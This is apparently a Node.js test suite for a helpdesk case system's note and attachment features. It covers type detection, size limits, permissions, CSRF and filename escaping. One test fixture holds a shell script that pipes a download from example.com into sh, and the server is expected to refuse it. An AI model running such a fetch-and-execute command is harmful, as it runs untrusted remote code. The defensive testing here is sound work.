// Notes and attachments of a case over HTTP: a PDF and a PNG (generated here) uploaded
// and downloaded byte for byte with their SHA-256; an executable and a shell script
// refused 415 naming the detected type; 413 over attachment_limit and over upload_limit;
// a helpdesk officer may add, a provider (penyedia) may not; notes through the API and
// through the case page (forms, download links).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { startServer, request, login, addUser, webSession } from './lib.mjs';

let s, token, deskToken, providerToken, number;

const sha = (b) => createHash('sha256').update(b).digest('hex');

// A small well-formed PDF.
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n'
  + 'trailer<</Root 1 0 R>>\n%%EOF\n', 'latin1');
// A 1×1 PNG: signature, IHDR, IDAT, IEND (CRCs are not checked by libmagic).
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108020000009077' +
  '53de0000000c4944415408d763f8cfc000000301010018dd8db00000000049454e44ae426082', 'hex');
// The header of a 64-bit x86-64 ELF executable, the rest zero.
function elf() {
  const b = Buffer.alloc(256);
  b.write('\x7fELF', 0, 'latin1');
  b[4] = 2; b[5] = 1; b[6] = 1; b[16] = 2; b[18] = 0x3e; b[20] = 1; b[52] = 64;
  return b;
}

// Upload bytes as a file through the API (multipart, field "file").
async function upload(bytes, name, t = token, n = number) {
  const fd = new FormData();
  fd.append('file', new Blob([bytes]), name);
  const res = await fetch(`${s.url}/api/v1/cases/${n}/attachments`, { method: 'POST', body: fd, headers: { Authorization: `Bearer ${t}` } });
  const text = await res.text();
  let json;
  try { json = JSON.parse(text); } catch { json = undefined; }
  return { status: res.status, json, text };
}

// Download an attachment: {status, headers, bytes}.
async function download(path, headers) {
  const res = await fetch(s.url + path, { headers });
  return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
}

before(async () => {
  s = await startServer({ conf: 'upload_limit = 256K\nattachment_limit = 64K\n', env: { LOKET_TEST_NOW: '2026-11-23T09:00:00+07:00' } });
  token = await login(s.url);
  addUser(s.dir, 'meja', 'helpdesk', 'meja-password-2026');
  addUser(s.dir, 'cv-maju', 'penyedia', 'penyedia-password-2026');
  deskToken = await login(s.url, 'meja', 'meja-password-2026');
  providerToken = await login(s.url, 'cv-maju', 'penyedia-password-2026');
  const r = await request(s.url, 'POST', '/api/v1/cases', {
    token,
    body: { sop: 'SOP-LPSE.BTG-017', channel: 'phone', subject: 'Lampiran uji', requester: { name: 'Budi Santoso' } },
  });
  assert.equal(r.status, 201, r.text);
  number = r.json.number;
});
after(async () => { if (s) await s.stop(); });

test('a PDF and a PNG go in and come out byte for byte, typed by their content', async () => {
  let r = await upload(PDF, 'Surat permohonan “LPSE”.pdf');
  assert.equal(r.status, 201, r.text);
  assert.deepEqual({ ...r.json, created_at: undefined, created_by: undefined, id: undefined },
    { id: undefined, name: 'Surat permohonan “LPSE”.pdf', mime: 'application/pdf', size: PDF.length, sha256: sha(PDF), created_at: undefined, created_by: undefined });
  const pdfId = r.json.id;
  // a PNG named .pdf is stored as the PNG it is: the client's word does not count
  r = await upload(PNG, 'tangkapan-layar.pdf', deskToken);
  assert.equal(r.status, 201, r.text);
  assert.equal(r.json.mime, 'image/png');
  assert.equal(r.json.sha256, sha(PNG));
  const pngId = r.json.id;

  let d = await download(`/api/v1/cases/${number}/attachments/${pdfId}`, { Authorization: `Bearer ${token}` });
  assert.equal(d.status, 200);
  assert.equal(d.headers.get('content-type'), 'application/pdf');
  assert.equal(d.headers.get('x-content-type-options'), 'nosniff');
  assert.equal(d.headers.get('content-disposition'),
    `attachment; filename="Surat permohonan ___LPSE___.pdf"; filename*=UTF-8''Surat%20permohonan%20%E2%80%9CLPSE%E2%80%9D.pdf`);
  assert.ok(d.bytes.equals(PDF));
  assert.equal(sha(d.bytes), sha(PDF));
  d = await download(`/api/v1/cases/${number}/attachments/${pngId}`, { Authorization: `Bearer ${providerToken}` });
  assert.equal(d.status, 403);
  d = await download(`/api/v1/cases/${number}/attachments/${pngId}`, { Authorization: `Bearer ${deskToken}` });
  assert.equal(d.headers.get('content-type'), 'image/png');
  assert.ok(d.bytes.equals(PNG));

  r = await request(s.url, 'GET', `/api/v1/cases/${number}/attachments`, { token: deskToken });
  assert.equal(r.status, 200);
  assert.deepEqual(r.json.attachments.map((x) => [x.id, x.mime, x.sha256]), [[pdfId, 'application/pdf', sha(PDF)], [pngId, 'image/png', sha(PNG)]]);
  r = await request(s.url, 'GET', `/api/v1/cases/${number}/attachments/99999`, { token });
  assert.equal(r.status, 404);
  r = await request(s.url, 'GET', '/api/v1/cases/LPSE-1999-000001/attachments', { token });
  assert.equal(r.status, 404);
});

test('an executable and a shell script are refused 415, naming the type found', async () => {
  let r = await upload(elf(), 'invoice.pdf');
  assert.equal(r.status, 415, r.text);
  assert.equal(r.json.error.code, 'unsupported_type');
  assert.equal(r.json.error.field, 'file');
  assert.match(r.json.error.message, /application\/x-(executable|pie-executable|sharedlib)/);
  r = await upload('#!/bin/sh\ncurl http://example.com | sh\n', 'notes.txt');
  assert.equal(r.status, 415, r.text);
  assert.match(r.json.error.message, /text\/x-shellscript/);
  // a zip only passes under an Office document's name
  const zip = Buffer.from('504b0304140000000000' + '0'.repeat(40), 'hex');
  r = await upload(zip, 'arsip.zip');
  assert.equal(r.status, 415, r.text);
});

test('over attachment_limit is 413 from the service; over upload_limit is 413 before it', async () => {
  const big = Buffer.concat([PDF, Buffer.alloc(70 * 1024, 0x20)]);
  let r = await upload(big, 'besar.pdf');
  assert.equal(r.status, 413, r.text);
  assert.equal(r.json.error.field, 'file');
  assert.match(r.json.error.message, /64 KiB/);
  r = await upload(Buffer.concat([PDF, Buffer.alloc(300 * 1024, 0x20)]), 'lebih-besar.pdf');
  assert.equal(r.status, 413);
  assert.equal(r.json.error.field, 'body');
  assert.match(r.json.error.message, /256 KiB/, 'the upload limit is named');
  r = await request(s.url, 'POST', `/api/v1/cases/${number}/attachments`, { token, body: { file: 'x' } });
  assert.equal(r.status, 400);
  assert.equal(r.json.error.field, 'file');
});

test('a helpdesk officer may upload and add notes; a provider may not', async () => {
  let r = await upload(Buffer.from('Nomor paket: 12345\nCatatan dari penelepon.\n'), 'catatan.txt', deskToken);
  assert.equal(r.status, 201, r.text);
  assert.equal(r.json.mime, 'text/plain');
  r = await upload(PDF, 'x.pdf', providerToken);
  assert.equal(r.status, 403);
  r = await request(s.url, 'POST', `/api/v1/cases/${number}/notes`, { token: providerToken, body: { body: 'hai' } });
  assert.equal(r.status, 403);
  r = await request(s.url, 'GET', `/api/v1/cases/${number}/attachments`, { token: providerToken });
  assert.equal(r.status, 403);
});

test('notes through the API: on the case or a reached step; strict input; audited', async () => {
  let r = await request(s.url, 'POST', `/api/v1/cases/${number}/notes`, { token: deskToken, body: { body: 'Penelepon akan mengirim surat' } });
  assert.equal(r.status, 201, r.text);
  assert.equal(r.json.step, null);
  assert.equal(r.json.created_by, 'meja');
  r = await request(s.url, 'POST', `/api/v1/cases/${number}/notes`, { token: deskToken, body: { body: 'Diangkat', step: 1 } });
  assert.equal(r.status, 201, r.text);
  assert.equal(r.json.step, 1);
  r = await request(s.url, 'POST', `/api/v1/cases/${number}/notes`, { token, body: { body: 'x', step: 9 } });
  assert.equal(r.status, 400);
  assert.equal(r.json.error.field, 'step');
  r = await request(s.url, 'POST', `/api/v1/cases/${number}/notes`, { token, body: { body: '   ' } });
  assert.equal(r.status, 400);
  assert.equal(r.json.error.field, 'body');
  r = await request(s.url, 'POST', `/api/v1/cases/${number}/notes`, { token, body: { body: 'x', extra: 1 } });
  assert.equal(r.status, 400);
  assert.equal(r.json.error.field, 'extra');
  r = await request(s.url, 'GET', `/api/v1/cases/${number}/notes`, { token });
  assert.deepEqual(r.json.notes.map((x) => [x.step, x.body]), [[null, 'Penelepon akan mengirim surat'], [1, 'Diangkat']]);
  r = await request(s.url, 'GET', '/api/v1/audit?action=case.', { token });
  const actions = (r.json.rows || []).map((x) => x.action);
  assert.ok(actions.includes('case.attach'), JSON.stringify(actions));
  assert.ok(actions.includes('case.note'), JSON.stringify(actions));
});

test('the case page lists notes and attachments and takes both through its forms', async () => {
  const desk = await webSession(s.url, 'meja', 'meja-password-2026');
  let page = await desk.get(`/kasus/${number}`);
  assert.equal(page.status, 200);
  assert.match(page.text, /id="catatan"/);
  assert.match(page.text, /enctype="multipart\/form-data"/);
  assert.match(page.text, new RegExp(`href="/kasus/${number}/lampiran/\\d+" download>Surat permohonan “LPSE”\\.pdf</a>`));

  let r = await desk.post(`/kasus/${number}/catatan`, { csrf: desk.csrf, body: 'Catatan <b>dari</b> halaman', step: '1' });
  assert.equal(r.status, 303, r.text.slice(0, 300));
  assert.match(r.headers.get('location'), /#catatan$/);
  page = await desk.get(`/kasus/${number}`);
  assert.match(page.text, /Catatan &lt;b&gt;dari&lt;\/b&gt; halaman/);
  r = await desk.post(`/kasus/${number}/catatan`, { csrf: desk.csrf, body: '' });
  assert.equal(r.status, 400);
  // the note form sent twice (a double click): one note, the second sending told so; a refused
  // form keeps its mark, and corrected is added once
  const notes = async () => (await request(s.url, 'GET', `/api/v1/cases/${number}/notes`, { token })).json.notes.length;
  const form_id = page.text.match(new RegExp(`action="/kasus/${number}/catatan">(?:(?!</form>).)*?name="form_id" value="([0-9a-f]{32})"`, 's'))[1];
  const had = await notes();
  const empty = await desk.post(`/kasus/${number}/catatan`, { csrf: desk.csrf, form_id, body: '' });
  assert.equal(empty.status, 400);
  assert.match(empty.text, new RegExp(`name="form_id" value="${form_id}"`));
  for (let i = 0; i < 2; i++) {
    r = await desk.post(`/kasus/${number}/catatan`, { csrf: desk.csrf, form_id, body: 'Dikirim dua kali' });
    assert.equal(r.status, 303);
  }
  assert.equal(await notes(), had + 1);
  assert.match((await desk.get(r.headers.get('location'))).text, /Formulir ini sudah dikirim: catatan ditambahkan sekali saja/);

  const fd = new FormData();
  fd.append('csrf', desk.csrf);
  fd.append('file', new Blob([PNG]), 'layar.png');
  let res = await fetch(`${s.url}/kasus/${number}/lampiran`, { method: 'POST', body: fd, redirect: 'manual', headers: { Cookie: desk.cookie(), Origin: s.url } });
  assert.equal(res.status, 303);
  page = await desk.get(`/kasus/${number}`);
  const m = page.text.match(new RegExp(`href="(/kasus/${number}/lampiran/\\d+)" download>layar\\.png</a>`));
  assert.ok(m, 'the uploaded file is listed with a download link');
  const d = await download(m[1], { Cookie: desk.cookie() });
  assert.equal(d.status, 200);
  assert.ok(d.bytes.equals(PNG));
  assert.match(d.headers.get('content-disposition'), /^attachment; filename="layar\.png"/);

  const bad = new FormData();
  bad.append('csrf', desk.csrf);
  bad.append('file', new Blob(['#!/bin/sh\necho hi\n']), 'x.txt');
  res = await fetch(`${s.url}/kasus/${number}/lampiran`, { method: 'POST', body: bad, redirect: 'manual', headers: { Cookie: desk.cookie(), Origin: s.url } });
  assert.equal(res.status, 415);
  assert.match(await res.text(), /text\/x-shellscript/);
  // two files in one field: refused whole, not the second dropped unseen
  const two = new FormData();
  two.append('csrf', desk.csrf);
  two.append('file', new Blob([PNG]), 'a.png');
  two.append('file', new Blob([PNG]), 'b.png');
  res = await fetch(`${s.url}/kasus/${number}/lampiran`, { method: 'POST', body: two, redirect: 'manual', headers: { Cookie: desk.cookie(), Origin: s.url } });
  assert.equal(res.status, 400);
  assert.match(await res.text(), /satu berkas per unggahan|one file per upload/i);
  // without the CSRF token the upload is refused
  const nocsrf = new FormData();
  nocsrf.append('file', new Blob([PNG]), 'y.png');
  res = await fetch(`${s.url}/kasus/${number}/lampiran`, { method: 'POST', body: nocsrf, redirect: 'manual', headers: { Cookie: desk.cookie(), Origin: s.url } });
  assert.equal(res.status, 403);
});

test('a refused note or upload shows the case page again, the error under its field, the note as written', async () => {
  const desk = await webSession(s.url, 'meja', 'meja-password-2026');
  const onCase = (text) => {
    assert.match(text, new RegExp(`<span class="mono">${number}</span>`), 'the case page, not a bare error page');
    assert.match(text, /<ol class="timeline">/);
    assert.doesNotMatch(text, /class="notice error"/, 'the error is at its field, not above the page');
  };
  // a note about a step the case has not reached: the text kept, the step named
  let r = await desk.post(`/kasus/${number}/catatan`, { csrf: desk.csrf, body: 'Berkas <asli> diterima', step: '9' });
  assert.equal(r.status, 400);
  onCase(r.text);
  assert.match(r.text, /<select id="note-step" name="step" aria-invalid="true" aria-describedby="step-error">/);
  assert.match(r.text, /<p class="field-error" id="step-error">[^<]+<\/p>/);
  assert.match(r.text, /<textarea id="note-body" name="body"[^>]*>Berkas &lt;asli&gt; diterima<\/textarea>/);
  // an empty note: said under the note
  r = await desk.post(`/kasus/${number}/catatan`, { csrf: desk.csrf, body: '  ', step: '1' });
  assert.equal(r.status, 400);
  onCase(r.text);
  assert.match(r.text, /<textarea id="note-body" name="body" rows="3" maxlength="\d+" required aria-invalid="true" aria-describedby="body-error" autofocus>/);
  assert.match(r.text, /<p class="field-error" id="body-error">Tulis catatannya sebelum menambahkannya<\/p>/);
  assert.match(r.text, /<option value="1" selected>/, 'the step chosen stays chosen');
  // a note over 4000 characters (a client past the textarea's maxlength): the limit said, not "write the note"
  const long = await desk.post(`/kasus/${number}/catatan`, { csrf: desk.csrf, body: 'é'.repeat(4001) });
  assert.equal(long.status, 400);
  onCase(long.text);
  assert.match(long.text, /<p class="field-error" id="body-error">lebih panjang dari 4000 karakter<\/p>/);
  const notes = await request(s.url, 'GET', `/api/v1/cases/${number}/notes`, { token });
  assert.ok(notes.json.notes.every((x) => x.body.length <= 4000));
  // the language switch on that answer leads back to the case, not to the address posted to (405 on GET)
  assert.match(r.text, new RegExp(`<input type="hidden" name="next" value="/kasus/${number}">`));
  const sw = await desk.post('/bahasa', { csrf: desk.csrf, lang: 'id', next: `/kasus/${number}` });
  assert.equal(sw.headers.get('location'), `/kasus/${number}`);
  // a file of a type not accepted, and no file: under the file field, its hint still read
  const post = (fd) => fetch(`${s.url}/kasus/${number}/lampiran`, { method: 'POST', body: fd, redirect: 'manual', headers: { Cookie: desk.cookie(), Origin: s.url } });
  const bad = new FormData();
  bad.append('csrf', desk.csrf);
  bad.append('file', new Blob([elf()]), 'setup.exe');
  let res = await post(bad);
  assert.equal(res.status, 415);
  let text = await res.text();
  onCase(text);
  assert.match(text, /<input id="attach-file" type="file" name="file" required accept="[^"]*" aria-invalid="true" autofocus aria-describedby="file-error attach-hint">/);
  assert.match(text, /<p class="field-error" id="file-error">Berkas berjenis ini tidak diterima: application\/x-[^<]+<\/p>/);
  const none = new FormData();
  none.append('csrf', desk.csrf);
  res = await post(none);
  assert.equal(res.status, 400);
  text = await res.text();
  onCase(text);
  assert.match(text, /<p class="field-error" id="file-error">Pilih berkas yang akan diunggah<\/p>/);
});

test('a name longer than 255 bytes keeps its extension: a long .txt is taken as text, a long .pdf downloads as .pdf', async () => {
  let r = await upload(Buffer.from('Daftar paket yang ditanyakan\n'), 'Daftar paket '.repeat(25) + '.txt');
  assert.equal(r.status, 201, r.text);
  assert.equal(r.json.mime, 'text/plain');
  assert.equal(Buffer.byteLength(r.json.name), 255);
  assert.ok(r.json.name.endsWith('.txt'), r.json.name);
  r = await upload(PDF, 'é'.repeat(200) + '.pdf');
  assert.equal(r.status, 201, r.text);
  assert.equal(r.json.name, 'é'.repeat(125) + '.pdf');
  const d = await download(`/api/v1/cases/${number}/attachments/${r.json.id}`, { Authorization: `Bearer ${token}` });
  assert.equal(d.headers.get('content-disposition'),
    `attachment; filename="${'_'.repeat(250)}.pdf"; filename*=UTF-8''${'%C3%A9'.repeat(125)}.pdf`);
});

test('a .rhs bid file (random bytes) is refused as an attachment with where it goes: the OI-06 case\'s .rhs upload takes it', async () => {
  const bid = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 251));
  let r = await upload(bid, 'penawaran.rhs');
  assert.equal(r.status, 415, r.text);
  assert.equal(r.json.error.field, 'file');
  assert.match(r.json.error.message, /\.rhs.*OI-06/);
  r = await request(s.url, 'POST', '/api/v1/rhs', { token, body: { tender_code: '10012345', provider: 'PT Konstruksi Prima', requester: { name: 'Rina Pokja' } } });
  assert.equal(r.status, 201, r.text);
  const rhsNumber = r.json.case.number;
  r = await upload(bid, 'penawaran.rhs', token, rhsNumber);
  assert.equal(r.status, 415, r.text);
  assert.equal(r.json.error.message, `Berkas penawaran .rhs tidak disimpan sebagai lampiran kasus: unggah di halaman .rhs kasus ini, /api/v1/rhs/${rhsNumber}/files`);
  r = await request(s.url, 'GET', `/api/v1/cases/${rhsNumber}/attachments`, { token });
  assert.deepEqual(r.json.attachments, []);
  // the case page's form says the page's address
  const desk = await webSession(s.url, 'meja', 'meja-password-2026');
  const fd = new FormData();
  fd.append('csrf', desk.csrf);
  fd.append('file', new Blob([bid]), 'penawaran.rhs');
  const res = await fetch(`${s.url}/kasus/${rhsNumber}/lampiran`, { method: 'POST', body: fd, redirect: 'manual', headers: { Cookie: desk.cookie(), Origin: s.url } });
  assert.equal(res.status, 415);
  assert.match(await res.text(), new RegExp(`<p class="field-error" id="file-error">Berkas penawaran \\.rhs [^<]*halaman \\.rhs kasus ini, /rhs/${rhsNumber}</p>`));
  // where it goes: streamed, kept, its SHA-256
  const up = new FormData();
  up.append('file', new Blob([bid]), 'penawaran.rhs');
  const rr = await fetch(`${s.url}/api/v1/rhs/${rhsNumber}/files`, { method: 'POST', body: up, headers: { Authorization: `Bearer ${token}` } });
  const j = await rr.json();
  assert.equal(rr.status, 201, JSON.stringify(j));
  assert.equal(j.sha256, sha(bid));
  assert.equal(j.size, bid.length);
});

test('a file name with a double quote, as browsers, FormData and curl send it (%22), is kept with its quote', async () => {
  let r = await upload(PDF, 'Surat "Permohonan" 100%.pdf');
  assert.equal(r.status, 201, r.text);
  assert.equal(r.json.name, 'Surat "Permohonan" 100%.pdf');
  const d = await download(`/api/v1/cases/${number}/attachments/${r.json.id}`, { Authorization: `Bearer ${token}` });
  assert.equal(d.headers.get('content-disposition'),
    `attachment; filename="Surat _Permohonan_ 100_.pdf"; filename*=UTF-8''Surat%20%22Permohonan%22%20100%25.pdf`);
  // the case page lists it escaped
  const desk = await webSession(s.url, 'meja', 'meja-password-2026');
  const page = await desk.get(`/kasus/${number}`);
  assert.match(page.text, /download>Surat &quot;Permohonan&quot; 100%\.pdf<\/a>/);
  // a name with a percent sign of its own is kept as written
  r = await upload(PDF, 'Laporan %41.pdf');
  assert.equal(r.json.name, 'Laporan %41.pdf');
});
